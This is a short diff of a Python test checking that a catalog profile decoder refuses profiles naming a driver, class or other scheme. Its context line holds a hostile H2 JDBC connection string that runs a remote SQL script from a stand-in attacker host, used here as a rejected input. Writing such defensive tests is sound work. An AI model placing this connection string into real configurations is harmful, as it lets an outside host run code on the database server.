@@ -31,6 +31,6 @@ H2 = "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://attacker.example/poc.sql'"
     ],
 )
 def test_a_profile_that_names_a_driver_a_class_or_another_scheme_is_refused(profile: dict[str, object]) -> None:
-    assert decode_profile(json.dumps(S3).encode())
+    decode_profile(json.dumps(S3).encode())
     with pytest.raises(CatalogError):
         decode_profile(json.dumps(profile).encode())
